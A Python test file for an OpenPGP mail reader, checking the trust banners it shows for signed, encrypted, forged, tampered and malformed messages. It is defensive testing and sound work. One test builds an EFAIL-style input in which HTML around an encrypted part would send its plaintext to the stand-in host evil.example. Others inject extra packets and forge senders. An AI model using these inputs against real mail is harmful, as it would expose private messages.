"""Opening messages with real keys: what is shown, and under which banner."""

from __future__ import annotations

import base64
import shutil
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime

import pytest

from mailguard.banner.verdicts import shown_date
from mailguard.errors import PassphraseRefused
from mailguard.mime.armor import BlockKind, armor
from mailguard.model import (
    BannerAction,
    Cover,
    Encryption,
    Fingerprint,
    InnerKind,
    Match,
    OpenedMessage,
    RevocationReason,
    Signature,
)
from mailguard.openpgp.gpg import GnuPG
from mailguard.openpgp.ring import Ring
from mailguard.reading import Reader
from tests.conftest import key_maker, new_gnupg_home
from tests.core.letters import (
    BOB,
    DATE,
    Writer,
    crlf,
    html,
    letter,
    mixed,
    multipart,
    pgp_encrypted,
    pgp_signed,
    text,
)

SECRET = "correct horse"
PROTECTED = 'Content-Type: text/plain; charset=utf-8; hp="cipher"\n'
HARVEST = crlf(
    f"{PROTECTED}From: {BOB}\nTo: Alice <alice@example.org>\nSubject: Harvest\n"
    f"Date: {DATE}\nHP-Outer: Subject: [...]\n\nunder the mat\n"
)


@dataclass(frozen=True)
class Room:
    """Alice reads. Bob's key is verified, Carol's is only here, Dave's is not."""

    gpg: GnuPG
    theirs: GnuPG
    reader: Reader
    alice: Fingerprint
    bob: Writer
    carol: Writer
    dave: Writer
    me: Writer

    def open(self, raw: bytes, **kwargs: object) -> OpenedMessage:
        return self.reader.open(raw, **kwargs)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def room() -> Iterator[Room]:
    mine, theirs = GnuPG(home=new_gnupg_home()), GnuPG(home=new_gnupg_home())
    alice = key_maker(mine)("Alice Example", "alice@example.org")
    make = key_maker(theirs)
    bob = make("Bob Example", "bob@example.net")
    carol = make("Carol Example", "carol@example.com")
    dave = make("Dave Example", "dave@example.com")
    theirs.import_keys(mine.export_public([alice]))
    mine.import_keys(theirs.export_public([bob, carol]))
    mine.certify(bob, by=alice, passphrase=None)
    reader = Reader(mine, Ring(mine), lambda: frozenset({alice}))
    yield Room(
        mine,
        theirs,
        reader,
        alice,
        Writer(theirs, bob),
        Writer(theirs, carol),
        Writer(theirs, dave),
        Writer(mine, alice),
    )
    for gpg in (mine, theirs):
        gpg.close()
        shutil.rmtree(gpg.home or "", ignore_errors=True)


# The plain paths


def test_ordinary_mail_claims_nothing(room: Room) -> None:
    opened = room.open(letter(text("hello")))
    assert (opened.banner.id, opened.subject, opened.text) == ("B28", "Hello", "hello")
    assert [each.address for each in opened.from_] == ["bob@example.net"]
    assert opened.verdict.facts.encryption is Encryption.NONE


def test_encrypted_and_signed_by_a_verified_sender_is_green(room: Room) -> None:
    opened = room.open(letter(room.bob.encrypted(HARVEST, room.alice), subject="[...]"))
    assert opened.banner.id == "B24"
    assert "Written by Bob Example, whose key you verified" in opened.banner.sentence
    assert (opened.text, opened.subject, opened.outer_subject) == ("under the mat", "Harvest", "[...]")
    assert opened.verdict.is_subject_protected
    assert opened.protected_headers == {"from", "to", "subject", "date"}
    assert opened.verdict.decrypted_with == room.alice
    assert [(part.path, part.is_encrypted) for part in opened.parts] == [("1", True)]
    assert opened.parts[0].signature is not None
    assert opened.parts[0].signature.state is Signature.GOOD


def test_a_signature_inside_the_encryption_counts_as_over_all_of_it(room: Room) -> None:
    sealed = room.bob.encrypted(room.bob.signed(HARVEST), room.alice, signs=False)
    opened = room.open(letter(sealed, subject="[...]"))
    assert (opened.banner.id, opened.subject, opened.text) == ("B24", "Harvest", "under the mat")


def test_encrypted_without_signature_proves_no_sender(room: Room) -> None:
    opened = room.open(letter(room.bob.encrypted(text("hello"), room.alice, signs=False)))
    assert (opened.banner.id, opened.text) == ("B27", "hello")


def test_signed_by_a_verified_sender_is_green(room: Room) -> None:
    opened = room.open(letter(room.bob.signed(text("hello"))))
    assert (opened.banner.id, opened.text, opened.attachments) == ("B25", "hello", ())
    assert [(part.path, part.signature is not None) for part in opened.parts] == [("1", True), ("2", False)]


def test_own_mail_is_signed_by_you(room: Room) -> None:
    raw = letter(room.me.signed(text("hello")), sender="Alice <alice@example.org>")
    assert room.open(raw).banner.id == "B23"


def test_a_file_with_bare_line_feeds_is_checked_as_it_was_sent(room: Room) -> None:
    raw = letter(room.bob.signed(text("hello\nworld"))).replace(b"\r\n", b"\n")
    assert room.open(raw).banner.id == "B25"


def test_line_ends_that_a_program_signed_as_it_wrote_them_are_checked_so(room: Room) -> None:
    content = text("hello").replace(b"\r\n", b"\n")
    raw = letter(b"") + pgp_signed(content, room.bob.gpg.sign_detached(content, room.bob.key).armored)
    assert room.open(raw.replace(b"MIME-Version: 1.0\r\n\r\n", b"MIME-Version: 1.0\r\n")).banner.id == "B25"


def test_one_changed_character_is_red(room: Room) -> None:
    raw = letter(room.bob.signed(text("Really!"))).replace(b"Really!", b"Really.")
    opened = room.open(raw)
    assert opened.banner.id == "B07"
    assert "It is not what Bob Example signed." in opened.banner.sentence


@pytest.mark.parametrize("encrypts, row", [(False, "B20"), (True, "B19")])
def test_a_key_that_is_only_here_is_not_verified(room: Room, encrypts: bool, row: str) -> None:
    content = (
        room.carol.encrypted(text("hello"), room.alice) if encrypts else room.carol.signed(text("hello"))
    )
    opened = room.open(letter(content, sender="Carol <carol@example.com>"))
    assert (opened.banner.id, opened.text) == (row, "hello")


def test_a_signature_by_a_missing_key_shows_the_text_and_names_the_key(room: Room) -> None:
    opened = room.open(letter(room.dave.signed(text("hello")), sender="Dave <dave@example.com>"))
    assert (opened.banner.id, opened.text) == ("B11", "hello")
    assert opened.verdict.signatures[0].key_id == room.dave.key[-16:]


def test_a_valid_signature_of_someone_else_is_said(room: Room) -> None:
    opened = room.open(letter(room.bob.signed(text("hello")), sender="Alice <alice@example.org>"))
    assert opened.banner.id == "B15"
    assert opened.banner.sentence == (
        "Signed by bob@example.net, but the message says it is from alice@example.org."
    )


@pytest.mark.parametrize("sender", ["", f"{BOB}, alice@example.org", "<bob@example.net> <eve@example.com>"])
def test_a_signature_without_one_clear_sender_proves_none(room: Room, sender: str) -> None:
    assert room.open(letter(room.bob.signed(text("hello")), sender=sender)).banner.id == "B16"


def test_two_from_lines_are_no_clear_sender(room: Room) -> None:
    raw = b"From: eve@example.com\r\n" + letter(room.bob.signed(text("hello")))
    assert room.open(raw).banner.id == "B16"


def test_a_sender_who_always_signed_and_does_not_is_noticed(room: Room) -> None:
    opened = room.open(letter(text("send money")), usual_count=3)
    assert opened.banner.id == "B26"
    assert opened.banner.sentence.startswith("Bob Example's last 3 messages were signed")


def test_the_list_gets_the_two_glyphs(room: Room) -> None:
    opened = room.open(letter(room.bob.signed(text("hello"))))
    mark = room.reader.mark_of(opened)
    assert (mark.banner_id, mark.encryption_glyph, mark.signature_glyph, mark.tone) == (
        "B25",
        "lock-open",
        "seal-check",
        "ok",
    )


def test_nothing_of_a_message_is_in_its_repr(room: Room) -> None:
    opened = room.open(letter(room.bob.encrypted(HARVEST, room.alice)))
    assert not any(word in repr(opened) for word in ("mat", "Harvest", "bob", "Bob"))
    assert "mat" not in repr(opened.parts) + repr(opened.attachments) + repr(opened.inline_parts)


# Keys in other states


def test_a_revoked_an_expired_and_a_rejected_key_are_each_said(room: Room) -> None:
    make = key_maker(room.theirs)
    eve = make("Eve Example", "eve@example.com")
    raw = letter(Writer(room.theirs, eve).signed(text("hello")), sender="Eve <eve@example.com>")
    room.gpg.import_keys(room.theirs.export_public([eve]))
    room.gpg.certify(eve, by=room.alice, passphrase=None)
    assert room.open(raw).banner.id == "B25"
    room.gpg.set_disabled(eve, True)
    assert room.open(raw).banner.id == "B09"
    room.gpg.set_disabled(eve, False)
    room.theirs.revoke(eve, RevocationReason.COMPROMISED, "", passphrase=None)
    room.gpg.import_keys(room.theirs.export_public([eve]))
    revoked = room.open(raw)
    assert revoked.banner.id == "B08"
    assert f"withdrew it on {shown_date(datetime.now(UTC))}" in revoked.banner.sentence
    assert revoked.verdict.revocation_reason is RevocationReason.COMPROMISED
    assert revoked.text == "hello"


@pytest.mark.parametrize(
    "key_for, signature_for, row, sentence",
    [
        ("1y", "none", "B17", "Old's key expired on 31 Dec 2020."),
        ("none", "5d", "B18", "It was valid until 6 Jan 2020."),
    ],
)
def test_a_signature_outlives_neither_its_key_nor_its_own_date(
    room: Room, key_for: str, signature_for: str, row: str, sentence: str
) -> None:
    then = ["--faked-system-time", "20200101T000000!", "--pinentry-mode", "loopback", "--passphrase", ""]
    address = f"old-{key_for}@example.com"
    room.theirs.run([*then, "--quick-generate-key", f"Old <{address}>", "ed25519", "sign", key_for])
    (old,) = (key.fingerprint for key in room.theirs.list_keys() if key.address == address)
    room.gpg.import_keys(room.theirs.export_public([old]))
    content = text("hello")
    sign = ["--local-user", old, "--default-sig-expire", signature_for, "--armor", "--detach-sign"]
    signature = room.theirs.run([*then, *sign], content).data
    date = "Wed, 01 Jan 2020 00:00:00 +0000"
    opened = room.open(letter(pgp_signed(content, signature), sender=address, date=date))
    assert (opened.banner.id, opened.text) == (row, "hello")
    assert opened.banner.sentence == f"{sentence} Text unchanged since signing."


def test_a_broken_hash_is_not_believed(room: Room) -> None:
    content = text("hello")
    sign = ["--local-user", room.bob.key, "--digest-algo", "SHA1", "--armor", "--detach-sign"]
    opened = room.open(letter(pgp_signed(content, room.theirs.run(sign, content).data)))
    assert opened.banner.id == "B12"
    assert "SHA1" in opened.banner.sentence


# The envelope and what is beside it


def test_another_sender_inside_the_encryption_counts_as_no_match(room: Room) -> None:
    forged = HARVEST.replace(b"From: Bob Example <bob@example.net>", b"From: Alice <alice@example.org>")
    opened = room.open(letter(room.bob.encrypted(forged, room.alice)))
    assert (opened.banner.id, opened.verdict.facts.match) == ("B15", Match.NO)
    assert [each.address for each in opened.from_] == ["bob@example.net"]
    assert [each.code for each in opened.warnings] == ["from-differs"]


def test_a_header_in_plain_mail_protects_nothing(room: Room) -> None:
    raw = letter(crlf('Content-Type: text/plain; hp="clear"\nHP-Outer: Subject: x\n\nhello'))
    opened = room.open(raw)
    assert (opened.protected_headers, opened.subject) == (frozenset(), "Hello")


def test_a_protected_subject_counts_only_with_a_good_signature(room: Room) -> None:
    content = crlf(f'Content-Type: text/plain; hp="clear"\nFrom: {BOB}\nSubject: Signed subject\n\nhello')
    good = room.open(letter(room.bob.signed(content)))
    assert (good.subject, good.protected_headers) == ("Signed subject", {"from", "subject"})
    bad = room.open(letter(room.bob.signed(content).replace(b"hello", b"hallo")))
    assert (bad.subject, bad.protected_headers) == ("Hello", frozenset())


def test_a_list_may_rewrite_the_sender_of_verified_mail_but_of_no_other(room: Room) -> None:
    content = crlf(f'Content-Type: text/plain; hp="clear"\nFrom: {BOB}\nSubject: x\n\nhello')
    by_bob = room.open(letter(room.bob.signed(content), sender="Bob via list <list@example.org>"))
    assert (by_bob.banner.id, by_bob.from_[0].address) == ("B25", "bob@example.net")
    claimed = content.replace(b"bob@example.net", b"carol@example.com")
    by_carol = room.open(letter(room.carol.signed(claimed), sender="Carol via list <list@example.org>"))
    assert (by_carol.banner.id, by_carol.from_[0].address) == ("B15", "list@example.org")


def test_a_footer_under_a_signed_message_is_shown_apart(room: Room) -> None:
    opened = room.open(letter(mixed(room.bob.signed(text("signed words")), text("the list's footer"))))
    assert opened.banner.id == "B14"
    assert "(signed and verified)" in opened.banner.sentence
    assert opened.text == "signed words"
    rest = opened.unsigned_rest
    assert rest is not None
    assert (rest.text, rest.banner.title) == ("the list's footer", "The unsigned rest of this message")
    assert rest.verdict.facts.signature is Signature.NONE
    assert [part.signature is not None for part in opened.parts] == [True, False, False]


LIST = "List-Id: Talk <talk.example.org>\nList-Post: <mailto:talk@example.org>\n"


def on_list(content: bytes, *, more: str = "", sender: str = BOB) -> bytes:
    return crlf(LIST + more) + letter(content, sender=sender)


def test_a_list_that_added_a_footer_is_named_and_stays_calm(room: Room) -> None:
    signed = room.bob.signed(text("signed words"))
    opened = room.open(on_list(mixed(signed, text("the list's footer"))))
    assert (opened.banner.id, opened.banner.tone, opened.text) == ("B14", "caution", "signed words")
    assert "The list talk.example.org seems to have added the rest below it." in opened.banner.sentence
    unnamed = room.open(letter(mixed(signed, text("the list's footer"))))
    assert "The rest may come from anyone." in unnamed.banner.sentence
    before = room.open(on_list(mixed(text("Pay at once"), signed)))
    assert "The rest may come from anyone." in before.banner.sentence


def test_a_list_that_stands_in_from_is_no_other_signer(room: Room) -> None:
    signed = room.bob.signed(text("words"))
    munged = "Bob Example via Talk <talk@example.org>"
    opened = room.open(on_list(signed, sender=munged, more=f"Reply-To: {BOB}\n"))
    assert (opened.banner.id, opened.banner.title) == ("B15", "Signed, sent on by a mailing list")
    assert "Signed by bob@example.net. The list talk.example.org" in opened.banner.sentence
    other = room.open(on_list(signed, sender=munged, more="Reply-To: <carol@example.com>\n"))
    assert other.banner.title == "Signed by someone else"
    no_list = room.open(letter(signed, sender=munged))
    assert no_list.banner.title == "Signed by someone else"
    with_footer = room.open(on_list(mixed(signed, text("footer")), sender=munged, more=f"Reply-To: {BOB}\n"))
    assert "(signed, sent on by a mailing list)" in with_footer.banner.sentence


def test_each_layer_of_a_message_wrapped_three_times_keeps_its_own_verdict(room: Room) -> None:
    """Signed, encrypted, signed: RFC 2634 section 1.1 calls it triple wrapped."""
    sealed = room.bob.encrypted(room.bob.signed(text("the secret")), room.alice, signs=False)
    outer = room.open(letter(room.carol.signed(sealed), sender="Carol <carol@example.com>"))
    assert (outer.banner.id, outer.text) == ("B10", "")
    assert "signed, key not verified yet" in outer.banner.sentence
    (inner,) = (room.open(each.raw) for each in outer.inner_messages)
    assert (inner.banner.id, inner.text) == ("B15", "the secret")
    whole = room.open(letter(room.bob.encrypted(room.bob.signed(text("one")), room.alice)))
    assert (whole.banner.id, whole.text, len(whole.verdict.signatures)) == ("B24", "one", 2)
    mixed_signers = room.open(letter(room.bob.encrypted(room.carol.signed(text("one")), room.alice)))
    assert (mixed_signers.banner.id, len(mixed_signers.verdict.signatures)) == ("B24", 2)


def test_who_signs_what_others_encrypted_has_not_written_it(room: Room) -> None:
    sealed = room.carol.encrypted(text("the secret"), room.alice, signs=False)
    opened = room.open(letter(room.bob.signed(sealed)))
    assert (opened.banner.id, opened.text) == ("B10", "")
    (inner,) = (room.open(each.raw) for each in opened.inner_messages)
    assert (inner.banner.id, inner.verdict.facts.signature) == ("B27", Signature.NONE)


def test_an_old_cipher_is_told(room: Room) -> None:
    arguments = [
        "--trust-model",
        "always",
        "--cipher-algo",
        "3DES",
        "--recipient",
        room.alice,
        "--armor",
        "-e",
    ]
    opened = room.open(letter(pgp_encrypted(room.theirs.run(arguments, text("words")).data)))
    assert (opened.banner.id, [each.code for each in opened.warnings]) == ("B27", ["weak-cipher"])


def test_parts_behind_a_signature_are_not_covered_by_it(room: Room) -> None:
    opened = room.open(letter(room.bob.signed(text("signed"), text("added"))))
    assert (opened.banner.id, opened.text) == ("B14", "signed")
    assert opened.unsigned_rest is not None and opened.unsigned_rest.text == "added"


def test_an_unchecked_part_signature_hides_nothing(room: Room) -> None:
    opened = room.open(letter(mixed(room.dave.signed(text("one")), text("two"))))
    assert (opened.banner.id, opened.text, opened.unsigned_rest) == ("B11", "one\n\ntwo", None)
    assert opened.attachments == ()


def test_an_encrypted_part_in_html_is_neither_opened_nor_joined(room: Room) -> None:
    sealed = room.bob.encrypted(text("the secret"), room.alice)
    wrapped = mixed(html('<img src="https://evil.example/?'), sealed, html('">'))
    opened = room.open(letter(wrapped))
    assert opened.banner.id == "B10"
    assert "secret" not in opened.text + (opened.html or "") + repr(opened.remote_content)
    inner = room.open(opened.inner_messages[0].raw)
    assert (inner.banner.id, inner.text) == ("B24", "the secret")


def test_parts_beside_the_encrypted_one_are_left_out(room: Room) -> None:
    armored = room.bob.sealed(text("the secret"), room.alice)
    opened = room.open(letter(pgp_encrypted(armored, text("and pay to this account"))))
    assert (opened.text, opened.banner.id) == ("the secret", "B24")
    assert [each.code for each in opened.warnings] == ["extra-parts"]


def test_encrypted_mail_that_a_server_took_apart_is_put_together(room: Room) -> None:
    armored = room.bob.sealed(HARVEST, room.alice)
    control = crlf("Content-Type: application/pgp-encrypted\n\nVersion: 1\n")
    data = crlf("Content-Type: application/octet-stream\n\n") + armored
    opened = room.open(letter(mixed(text(""), control, data)))
    assert (opened.banner.id, opened.text) == ("B24", "under the mat")


def test_encryption_inside_encryption_stays_closed(room: Room) -> None:
    inner = room.bob.encrypted(text("the secret"), room.alice)
    opened = room.open(letter(room.bob.encrypted(mixed(text("look"), inner), room.alice)))
    assert (opened.banner.id, opened.text) == ("B24", "look")
    assert [each.code for each in opened.warnings] == ["encrypted-inside"]
    assert room.open(opened.inner_messages[0].raw).text == "the secret"
    only = room.open(letter(room.bob.encrypted(inner, room.alice)))
    assert "secret" not in only.text


def test_encryption_inside_a_signature_has_a_window_of_its_own(room: Room) -> None:
    inner = room.carol.encrypted(text("the secret"), room.alice)
    opened = room.open(letter(room.bob.signed(inner)))
    assert (opened.banner.id, opened.text) == ("B10", "")
    assert "(signed and verified)" in opened.banner.sentence
    assert room.open(opened.inner_messages[0].raw).verdict.facts.match is Match.NO


def test_each_encrypted_part_has_a_window_of_its_own(room: Room) -> None:
    parts = [room.bob.encrypted(text(each), room.alice) for each in ("one", "two")]
    opened = room.open(letter(mixed(text("look"), *parts)))
    assert (opened.banner.id, opened.text, opened.attachments) == ("B10", "look", ())
    assert [(each.path, each.kind, each.label) for each in opened.inner_messages] == [
        ("2", InnerKind.ENCRYPTED, "Encrypted part 1"),
        ("3", InnerKind.ENCRYPTED, "Encrypted part 2"),
    ]
    assert [room.open(each.raw).text for each in opened.inner_messages] == ["one", "two"]
    assert [room.open(each.raw).banner.id for each in opened.inner_messages] == ["B24", "B24"]


def test_each_signed_part_is_checked_and_only_the_first_is_shown(room: Room) -> None:
    changed = room.bob.signed(text("three")).replace(b"three", b"THREE")
    opened = room.open(
        letter(mixed(room.bob.signed(text("one")), room.carol.signed(text("two")), changed, text("four")))
    )
    assert (opened.banner.id, opened.text) == ("B14", "one")
    states = [part.signature.state if part.signature else None for part in opened.parts]
    good, bad = Signature.GOOD, Signature.BAD
    assert states == [good, None, good, None, bad, None, None]
    assert "bad-signature-inside" in [each.code for each in opened.warnings]
    assert BannerAction.OPEN_INNER in opened.banner.actions
    two, three = (room.open(each.raw) for each in opened.inner_messages)
    assert (two.text, two.banner.id) == ("two", "B15")
    assert (three.text, three.banner.id) == ("THREE", "B07")
    assert opened.unsigned_rest is not None
    assert (opened.unsigned_rest.text, opened.unsigned_rest.attachments) == ("two\n\nTHREE\n\nfour", ())


def test_an_encrypted_part_inside_a_signed_part_stays_closed(room: Room) -> None:
    inner = room.carol.encrypted(text("the secret"), room.alice)
    opened = room.open(letter(mixed(room.bob.signed(inner), text("the list's footer"))))
    assert (opened.banner.id, opened.text) == ("B10", "the list's footer")
    assert [each.kind for each in opened.inner_messages] == [InnerKind.ENCRYPTED]
    assert room.open(opened.inner_messages[0].raw).text == "the secret"


def test_a_forwarded_message_is_an_attachment_and_is_not_opened(room: Room) -> None:
    forwarded = crlf("Content-Type: message/rfc822\n\n") + letter(room.bob.signed(text("old")), subject="Old")
    opened = room.open(letter(mixed(text("see below"), forwarded)))
    assert (opened.banner.id, opened.text) == ("B28", "see below")
    assert [each.filename for each in opened.attachments] == ["Old.eml"]
    assert room.open(opened.attachments[0].data).banner.id == "B25"


def test_a_whole_message_inside_the_envelope_is_shown_as_itself(room: Room) -> None:
    inner = crlf('Content-Type: message/rfc822; forwarded="no"\n\n') + letter(
        text("words"), subject="Harvest"
    )
    opened = room.open(letter(room.bob.encrypted(inner, room.alice), subject="[...]"))
    assert (opened.banner.id, opened.subject, opened.text) == ("B24", "Harvest", "words")


def unobtrusive(room: Room, content: bytes, signed: bytes, *fields: bytes) -> bytes:
    signature = room.theirs.run(["--local-user", room.bob.key, "--detach-sign"], signed).data
    coded = base64.b64encode(signature)
    folded = b"\r\n ".join(coded[at : at + 60] for at in range(0, len(coded), 60))
    return letter(mixed(b"".join([b"Sig: t=p; b=" + folded + b"\r\n", *fields, content])))


def test_an_unobtrusive_signature_is_checked(room: Room) -> None:
    opened = room.open(unobtrusive(room, HARVEST + b"\r\n\r\n", HARVEST.rstrip() + b"\r\n"))
    assert (opened.banner.id, opened.text, opened.subject) == ("B25", "under the mat", "Harvest")
    assert opened.verdict.method == "unobtrusive signature"
    assert room.open(unobtrusive(room, HARVEST, HARVEST.rstrip())).banner.id == "B25"
    other = room.open(unobtrusive(room, HARVEST, HARVEST.rstrip(), b"Sig: t=c; b=AAAA\r\n"))
    assert other.banner.id == "B25"
    assert [part.signature is not None for part in opened.parts] == [True]


def test_an_unobtrusive_signature_that_does_not_fit_counts_as_none(room: Room) -> None:
    opened = room.open(unobtrusive(room, HARVEST, HARVEST.replace(b"mat", b"bed")))
    assert (opened.banner.id, opened.text, opened.subject) == ("B28", "under the mat", "Hello")
    assert [each.code for each in opened.warnings] == ["unobtrusive-signature-bad"]
    signature = base64.b64encode(room.theirs.run(["--local-user", room.bob.key, "-b"], HARVEST).data)
    late = letter(mixed(b"X-Before: 1\r\nSig: t=p; b=" + signature + b"\r\n" + HARVEST))
    assert room.open(late).banner.id == "B28"


# Inline OpenPGP


def test_inline_blocks_alone_are_the_whole_message(room: Room) -> None:
    signed = room.open(letter(text(room.bob.clear("- dashed\nwords"))))
    assert (signed.banner.id, signed.text, signed.verdict.method) == (
        "B25",
        "- dashed\nwords",
        "inline OpenPGP",
    )
    sealed = room.open(letter(text(room.bob.sealed("Grüße".encode(), room.alice))))
    assert (sealed.banner.id, sealed.text) == ("B24", "Grüße")


def test_only_the_signed_lines_of_a_text_are_shown(room: Room) -> None:
    words = b"not signed\n" + room.bob.clear("signed") + b"nor this\n"
    opened = room.open(letter(text(words)))
    assert (opened.banner.id, opened.text) == ("B14", "signed")
    assert opened.unsigned_rest is not None
    assert opened.unsigned_rest.text == "not signed\n\nnor this"


def test_an_attachment_beside_an_inline_signature_is_not_covered(room: Room) -> None:
    attached = crlf('Content-Type: a/b\nContent-Disposition: attachment; filename="x.bin"\n\ndata')
    opened = room.open(letter(mixed(text(room.bob.clear("signed")), attached)))
    assert (opened.banner.id, opened.text, opened.attachments) == ("B14", "signed", ())
    assert opened.unsigned_rest is not None
    assert [each.filename for each in opened.unsigned_rest.attachments] == ["x.bin"]


def test_an_encrypted_block_among_words_is_opened_apart(room: Room) -> None:
    words = b"before\n" + room.bob.sealed(b"the secret", room.alice) + b"after\n"
    opened = room.open(letter(text(words)))
    assert (opened.banner.id, opened.text) == ("B10", "before\n\nafter")
    assert room.open(opened.inner_messages[0].raw).text == "the secret"


def test_several_blocks_in_one_text_are_each_opened_apart(room: Room) -> None:
    one, two = (room.bob.sealed(each, room.alice) for each in (b"one", b"two"))
    words = b"before\n" + one + b"between\n" + room.bob.clear("signed") + b"and\n" + two
    opened = room.open(letter(text(words)))
    assert opened.banner.id == "B10"
    assert "BEGIN PGP MESSAGE" not in opened.text
    assert [each.label for each in opened.inner_messages] == ["Encrypted block 1", "Encrypted block 2"]
    assert [room.open(each.raw).text for each in opened.inner_messages] == ["one", "two"]
    signature = opened.parts[0].signature
    assert signature is not None and (signature.state, signature.cover) == (Signature.GOOD, Cover.PART)


def test_two_signed_blocks_are_two_messages(room: Room) -> None:
    opened = room.open(letter(text(room.bob.clear("one") + b"\n" + room.carol.clear("two"))))
    assert (opened.banner.id, opened.text) == ("B14", "one")
    (two,) = (room.open(each.raw) for each in opened.inner_messages)
    assert (two.banner.id, two.text) == ("B15", "two")


def test_a_block_in_html_is_opened_from_its_words(room: Room) -> None:
    armored = room.bob.sealed(b"the secret", room.alice).decode()
    lines = html("<div>" + "</div><div>".join(line or "<br>" for line in armored.splitlines()) + "</div>")
    opened = room.open(letter(lines))
    assert (opened.banner.id, opened.text, opened.html) == ("B24", "the secret", None)
    both = room.open(letter(mixed(text(armored), lines, kind="alternative")))
    assert (both.banner.id, both.text, both.html) == ("B10", "", None)
    assert room.open(both.inner_messages[0].raw).text == "the secret"


def test_a_signed_block_that_is_not_encrypted_is_not_called_so(room: Room) -> None:
    block = armor(BlockKind.MESSAGE, room.theirs.run(["--local-user", room.bob.key, "--sign"], b"words").data)
    assert room.open(letter(text(block))).banner.id == "B25"
    assert room.open(letter(pgp_encrypted(block))).banner.id == "B06"


# What cannot be opened


def test_a_locked_key_asks_for_its_passphrase(room: Room) -> None:
    grace = key_maker(room.gpg)("Grace", "grace@example.org", passphrase=SECRET)
    room.theirs.import_keys(room.gpg.export_public([grace]))
    raw = letter(room.bob.encrypted(HARVEST, grace), subject="[...]")
    room.gpg.lock()
    locked = room.open(raw)
    assert (locked.banner.id, locked.verdict.locked_key, locked.verdict.locked_address) == (
        "B02",
        grace,
        "grace@example.org",
    )
    assert (locked.text, locked.html, locked.attachments, locked.subject) == ("", None, (), "[...]")
    with pytest.raises(PassphraseRefused):
        room.open(raw, passphrase="wrong")
    assert room.open(raw, passphrase=SECRET).text == "under the mat"


def test_mail_for_other_keys_shows_nothing_and_names_them(room: Room) -> None:
    opened = room.open(letter(room.bob.encrypted(text("secret"), room.dave.key)))
    assert (opened.banner.id, opened.text, len(opened.verdict.recipients)) == ("B03", "", 1)


def test_mail_to_a_hidden_recipient_is_read(room: Room) -> None:
    hidden = ["--trust-model", "always", "--hidden-recipient", room.alice, "--armor", "--encrypt"]
    opened = room.open(letter(pgp_encrypted(room.theirs.run(hidden, text("hello")).data)))
    assert (opened.banner.id, opened.text) == ("B27", "hello")


def test_a_changed_byte_shows_nothing(room: Room) -> None:
    lines = room.theirs.encrypt(text("secret " * 400), [room.alice], compress=False).split(b"\n")
    lines[12] = bytes(reversed(lines[12]))
    opened = room.open(letter(pgp_encrypted(b"\n".join(each for each in lines if each[:1] != b"="))))
    assert (opened.banner.id, opened.text) == ("B04", "")


def test_a_message_without_integrity_protection_is_not_opened(room: Room) -> None:
    old = ["--rfc2440", "--disable-mdc", "--cipher-algo", "AES", "--trust-model", "always"]
    sealed = room.theirs.run(["--armor", *old, "-r", room.alice, "--encrypt"], text("secret")).data
    opened = room.open(letter(pgp_encrypted(sealed)))
    assert (opened.banner.id, opened.text) == ("B05", "")


@pytest.mark.parametrize(
    "armored",
    [
        b"",
        b"nonsense",
        b"\0" * 1000,
        b"-----BEGIN PGP MESSAGE-----\n",
        b"-----BEGIN PGP MESSAGE-----\n\n!!!!\n-----END PGP MESSAGE-----\n",
        armor(BlockKind.MESSAGE, b"\xff" * 50),
        armor(BlockKind.MESSAGE, b"\xc1\x03\x09"),
        armor(BlockKind.MESSAGE, b"\xd2\x10\x63" + b"x" * 20),
    ],
)
def test_what_is_no_message_cannot_be_read(room: Room, armored: bytes) -> None:
    opened = room.open(letter(pgp_encrypted(armored)))
    assert (opened.banner.id, opened.text, opened.attachments) == ("B06", "", ())


def test_half_a_message_shows_nothing(room: Room) -> None:
    armored = room.theirs.encrypt(text("secret " * 1000), [room.alice], compress=False)
    opened = room.open(letter(pgp_encrypted(armored[: len(armored) // 2])))
    assert opened.banner.id in ("B04", "B06")
    assert opened.text == ""


def test_what_a_newer_program_made_is_named_and_not_called_damaged_or_bad(room: Room) -> None:
    signature = bytearray(
        room.theirs.run(["--local-user", room.bob.key, "--detach-sign"], text("hello")).data
    )
    signature[2] = 6  # its version: RFC 9580 section 5.2
    signed = room.open(letter(pgp_signed(text("hello"), armor(BlockKind.SIGNATURE, bytes(signature)))))
    assert (signed.banner.id, signed.text) == ("B12", "hello")
    assert "a newer version of OpenPGP (6)" in signed.banner.sentence
    arguments = ["--trust-model", "always", "--recipient", room.alice, "--encrypt"]
    sealed = bytearray(room.theirs.run(arguments, text("hello")).data)
    place = 2 + sealed[1]  # behind the session key for Alice
    sealed[place + (2 if sealed[place + 1] < 192 else 3)] = 2  # the version: section 5.13
    opened = room.open(letter(pgp_encrypted(armor(BlockKind.MESSAGE, bytes(sealed)))))
    assert (opened.banner.id, opened.text) == ("B06", "")
    assert "a newer version of OpenPGP (6)" in opened.banner.sentence


def test_what_a_password_opens_asks_for_it(room: Room) -> None:
    arguments = ["--pinentry-mode", "loopback", "--passphrase", SECRET, "--armor", "--symmetric"]
    raw = letter(pgp_encrypted(room.theirs.run(arguments, text("secret")).data))
    locked = room.open(raw)
    assert (locked.banner.id, locked.verdict.locked_key, locked.text) == ("B02", None, "")
    assert "Enter the password that it was encrypted with" in locked.banner.sentence
    opened = room.open(raw, passphrase=SECRET)
    assert (opened.banner.id, opened.text) == ("B27", "secret")
    with pytest.raises(PassphraseRefused):
        room.open(raw, passphrase="wrong")


def test_a_hidden_recipient_may_be_any_own_key_that_is_locked(room: Room) -> None:
    heidi = key_maker(room.gpg)("Heidi", "heidi@example.org", passphrase=SECRET)
    room.theirs.import_keys(room.gpg.export_public([heidi]))
    raw = letter(pgp_encrypted(room.theirs.encrypt(HARVEST, [], hidden=[heidi])))
    room.gpg.lock()
    locked = room.open(raw)
    assert (locked.banner.id, locked.text) == ("B02", "")
    assert locked.verdict.locked_key is not None
    assert room.open(raw, passphrase=SECRET).text == "under the mat"


def test_several_messages_in_one_are_not_taken_for_one(room: Room) -> None:
    def sealed(words: bytes) -> bytes:
        return room.theirs.run(["--trust-model", "always", "-r", room.alice, "--encrypt"], words).data

    literal = room.theirs.run(["--store"], b"evil").data
    for packets in (literal + sealed(b"good"), sealed(b"one") + sealed(b"two")):
        assert room.open(letter(pgp_encrypted(armor(BlockKind.MESSAGE, packets)))).text == ""
    after = room.open(letter(pgp_encrypted(armor(BlockKind.MESSAGE, sealed(b"good") + literal))))
    assert "evil" not in after.text


def test_smime_is_named_and_not_checked(room: Room) -> None:
    signature = crlf("Content-Type: application/pkcs7-signature; name=smime.p7s\n\nx")
